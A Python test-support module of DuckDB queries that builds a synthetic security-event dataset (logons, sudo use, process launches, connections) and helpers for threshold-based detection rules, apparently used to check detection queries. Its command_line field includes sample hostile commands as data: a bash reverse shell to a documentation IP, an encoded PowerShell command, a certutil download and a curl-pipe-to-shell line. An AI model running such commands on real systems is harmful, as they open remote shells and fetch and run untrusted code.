"""DuckDB statements of the sample projection and of shared steps, to check queries against."""

DAY = 86_400_000_000
HOUR = 3_600_000_000

EV = """
ev AS (
  SELECT *, CASE WHEN source_ip LIKE '10.%' THEN 'internal' ELSE 'external' END AS source_ip_scope
  FROM (
    SELECT lpad(event_id::VARCHAR, 12, '0') AS id, event_id AS n, epoch_us(ts) AS us, ts, k,
      'b-' || strftime(ts, '%Y-%m-%d') AS batch_id, event_id % 7 = 0 AS simulated, value,
      CASE WHEN event_type IN ('error', 'click') THEN 'authentication'
           WHEN event_type IN ('signup', 'purchase') THEN 'iam'
           WHEN k % 4 = 0 THEN 'process' WHEN k % 4 = 1 THEN 'privilege' ELSE 'network' END AS category,
      CASE WHEN event_type IN ('error', 'click') THEN 'logon' WHEN event_type = 'signup' THEN 'user_created'
           WHEN event_type = 'purchase' THEN 'group_member_added'
           WHEN k % 4 = 0 THEN 'process_started' WHEN k % 4 = 1 THEN 'sudo' ELSE 'connection' END AS action,
      CASE WHEN event_type = 'error' OR (event_type = 'view' AND k % 4 = 1 AND k % 3 = 0)
           THEN 'failure' ELSE 'success' END AS outcome,
      'srv-' || ((user_id % 20) * 2 + k // 50) AS host,
      'user' || user_id AS username, event_type,
      CASE WHEN event_type IN ('signup', 'purchase') THEN 'acct' || user_id
           WHEN event_type = 'view' AND k % 4 = 1 THEN 'root' END AS target_username,
      CASE WHEN k >= 80 THEN '203.0.113.' || (user_id % 40 + 1)
           ELSE '10.' || (k // 40) || '.' || (user_id % 5) || '.' || (user_id % 4 + 1) END AS source_ip,
      CASE WHEN event_type = 'view' AND k % 4 > 1
           THEN '10.9.' || k || '.' || (event_id % 50 + 1) END AS destination_ip,
      CASE WHEN event_type = 'view' AND k % 4 > 1 THEN k + 20 END AS destination_port,
      CASE WHEN event_type IN ('error', 'click') THEN 'sshd'
           WHEN event_type = 'view' AND k % 4 = 1 THEN 'sudo'
           WHEN event_type IN ('signup', 'purchase') THEN 'useradd' END AS service,
      CASE WHEN event_type = 'view' AND k % 4 = 0
           THEN ['bash','powershell.exe','certutil.exe','curl','nc','python3'][(k // 4) % 6 + 1] END AS process_name,
      CASE WHEN event_type = 'view' AND k % 4 = 0
           THEN ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1','powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0A',
                 'certutil.exe -urlcache -f http://files.example/a b','curl -s http://files.example/i.sh | sh',
                 'nc -l 8080','python3 app.py'][(k // 4) % 6 + 1]
           WHEN event_type = 'view' AND k % 4 = 1
           THEN CASE WHEN k % 8 = 1 THEN '/bin/bash' ELSE '/usr/bin/apt update' END END AS command_line,
      event_type || ' by user' || user_id AS message,
      CASE WHEN event_type IN ('error', 'click') THEN k % 10 = 0 END AS invalid_user,
      CASE WHEN event_type = 'purchase' THEN CASE WHEN k % 2 = 0 THEN 'sudo' ELSE 'users' END END AS group_name,
      CASE WHEN event_type = 'view' AND k % 4 = 1 AND k % 3 = 0 THEN 'not_in_sudoers' END AS failure_reason
    FROM (SELECT *, CAST(regexp_extract(props, '(\\d+)', 1) AS INTEGER) AS k FROM events)
  )
)"""

NET = "regexp_extract({0}, '^(\\d+\\.\\d+\\.\\d+)\\.', 1) || '.0/24'"

ASSETS = """
assets AS (
  SELECT s_suppkey AS s, s_suppkey::VARCHAR AS id,
    CASE WHEN s_suppkey BETWEEN 40 AND 44 THEN 'srv-' || (s_suppkey - 35) || '.lab.example'
         WHEN s_suppkey % 3 = 0 THEN 'srv-' || s_suppkey || '.corp.example'
         ELSE 'srv-' || s_suppkey END AS hostname,
    '10.8.0.' || (s_suppkey % 250) AS ip,
    ['low', 'medium', 'high', 'critical'][s_suppkey % 4 + 1] AS criticality,
    CASE WHEN s_suppkey % 2 = 0 THEN 'production' ELSE 'test' END AS environment,
    s_name AS owner, 'nation ' || s_nationkey AS description, 'tag' || (s_suppkey % 3) AS tag,
    CASE WHEN s_suppkey % 9 = 0 THEN 'RETIRED' ELSE 'ACTIVE' END AS status
  FROM supplier)"""

IDENTITIES = """
identities AS (
  SELECT c_custkey::VARCHAR AS id,
    CASE WHEN c_custkey % 10 = 9 THEN 'acct' ELSE 'user' END || c_custkey AS username,
    c_name AS display_name, c_mktsegment AS department,
    CASE WHEN c_mktsegment = 'MACHINERY' THEN 'privileged' ELSE 'standard' END AS privilege_level,
    'tag' || (c_custkey % 3) AS tag,
    CASE WHEN c_custkey % 9 = 0 THEN 'DISABLED' ELSE 'ACTIVE' END AS status
  FROM customer)"""


def bursts(name: str, where: str, keys: list[str], needed: int, window: int, value: str | None = None) -> str:
    """CTEs <name>_e (evidence with t0) of a threshold or distinct rule."""
    k = ", ".join(keys)
    same = " AND ".join(f"a.{x} = b.{x}" for x in keys)
    amount = "count(*)" if value is None else f"count(DISTINCT {value})"
    return f"""
{name}_m AS (SELECT * FROM ev WHERE {where}),
{name}_c AS (
  SELECT {k}, us, id, us - lag(us) OVER (PARTITION BY {k} ORDER BY us, id) AS gap,
    (SELECT {amount} FROM {name}_m b WHERE {same} AND b.us BETWEEN a.us - {window} AND a.us) AS c
  FROM {name}_m a),
{name}_s AS (
  SELECT *, sum(CASE WHEN gap IS NULL OR gap > {window} THEN 1 ELSE 0 END)
    OVER (PARTITION BY {k} ORDER BY us, id) AS sid FROM {name}_c),
{name}_t AS (
  SELECT {k}, sid, min(us) FILTER (WHERE c >= {needed}) AS t0, max(us) AS hi FROM {name}_s
  GROUP BY {k}, sid HAVING min(us) FILTER (WHERE c >= {needed}) IS NOT NULL),
{name}_e AS (
  SELECT m.*, t.t0 FROM {name}_m m JOIN {name}_t t
    ON {" AND ".join(f"m.{x} = t.{x}" for x in keys)} AND m.us BETWEEN t.t0 - {window} AND t.hi)"""


def with_(*ctes: str, body: str) -> str:
    return "WITH " + ",".join(c.strip() for c in ctes) + "\n" + body.strip()
